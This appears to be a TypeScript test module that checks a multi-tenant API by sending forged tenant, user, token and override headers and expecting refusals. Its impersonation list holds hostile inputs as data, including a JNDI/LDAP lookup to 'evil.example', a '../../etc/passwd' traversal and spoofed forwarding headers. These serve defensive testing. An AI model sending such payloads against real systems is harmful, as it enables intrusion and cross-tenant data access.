import { ruleOf } from '../rules/route-rule.ts'
import type { AttackClass, Attempt } from '../suite/attempt.ts'
import type { RouteCall } from '../world/call-route.ts'
import type { Route } from '../world/route.ts'
import type { World } from '../world/world.ts'
import { type Api, apisOf, controlsOf, isOpen, mayCall, operationName, rightfully } from './api.ts'

/** Headers that name a tenant, a person or a route: none changes who calls what; one that contradicts the token is refused. */
export function headers(world: World): AttackClass {
  const apis = apisOf(world).map((api) => ({ ...api, routes: api.routes.filter((route) => !isOpen(route)) }))
  return {
    name: 'headers',
    controls: apis.flatMap((api) => controlsOf(world, api)),
    attempts: apis.flatMap((api) => api.routes.flatMap((route) => attemptsOn(world, api, route))),
    skipped: [],
  }
}

type Case = [
  mutation: string,
  headers: Record<string, string>,
  call: 'standing' | 'as it is' | RouteCall,
  expected: string,
]

function attemptsOn(world: World, api: Api, route: Route): Attempt[] {
  const { ids } = ruleOf(api.rules, route)
  const cases = [...(api.name === 'tenant API' ? otherTenants(world) : []), ...impersonating(world, api, route)]
  return Object.entries(api.people)
    .filter(([role]) => mayCall(route, role))
    .flatMap(([role, { token }]) =>
      cases.map(([mutation, headers, call, expected]) => ({
        operation: operationName(route),
        role,
        mutation,
        expected,
        send: () =>
          rightfully(world, api, route, {
            token,
            headers,
            ...(call === 'standing' && ids && { id: ids.standing(world) }),
            ...(typeof call === 'object' && call),
          }),
      })),
    )
}

/** Names that are not the token's tenant. What is refused uses nothing up. */
const otherTenants = ({ attacker, victim }: World): Case[] =>
  [
    victim.config.tenantId,
    `${attacker.config.tenantId}x`,
    '',
    '*',
    'null',
    String.raw`\${aws:PrincipalTag/TenantId}`,
  ].map((id) => [`X-Tenant-Id "${id}"`, { 'x-tenant-id': id }, 'standing', '409 TENANT_MISMATCH X-Tenant-Id'])

/**
 * Each impersonation by itself, in a call that changes nothing: it reads, names what is foreign, or has a body that is refused. A call that
 * makes or uses something up comes once, with all of them.
 */
function impersonating(world: World, api: Api, route: Route): Case[] {
  const { ids, control, costly } = ruleOf(api.rules, route)
  const each = (call: Case[2], expected: string): Case[] =>
    impersonations(world).map((headers) => [Object.keys(headers).join(', '), headers, call, expected])
  if (route.method === 'GET') return each('as it is', route.success)
  const all = Object.assign({}, ...impersonations(world))
  const once: Case[] = control || costly ? [] : [['all of these', all, 'as it is', route.success]]
  if (ids) return [...each({ id: ids.foreign(world) }, '404 NOT_FOUND'), ...once]
  return route.body ? [...each({ body: [] }, '400 INVALID_REQUEST body'), ...once] : once
}

/** Headers that some gateway, proxy or framework may believe. */
function impersonations({ victim }: World): Record<string, string>[] {
  const { tenantId } = victim.config
  const { userId, token } = victim.admin
  return [
    { 'x-amzn-tenant-id': tenantId, 'x-tenant': tenantId, tenantid: tenantId },
    { 'x-amz-tenant-id': tenantId },
    { 'x-user-id': userId, 'x-userid': userId, 'x-forwarded-user': userId, 'x-remote-user': userId },
    { 'x-api-key': 'a-key-of-another-tenant-0123456789' },
    { 'x-authorizer-tenantid': tenantId, 'x-amzn-authorizer': JSON.stringify({ tenantId }) },
    { 'x-original-url': '/users', 'x-rewrite-url': '/users' },
    { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE', 'x-http-method': 'DELETE' },
    { 'x-forwarded-host': 'evil.example', 'x-forwarded-for': '127.0.0.1', forwarded: 'for=127.0.0.1' },
    { cookie: `token=${token}; tenantId=${tenantId}` },
    { 'x-amz-security-token': token },
    { 'x-access-token': token, 'x-id-token': token },
    { origin: 'https://evil.example', referer: 'https://evil.example/' },
    { 'accept-language': '../../etc/passwd', 'user-agent': String.raw`\${jndi:ldap://evil.example/a}` },
    { 'x-amzn-requestid': 'forged', 'x-amzn-trace-id': `Root=1-0-0;TenantId=${tenantId}` },
  ]
}
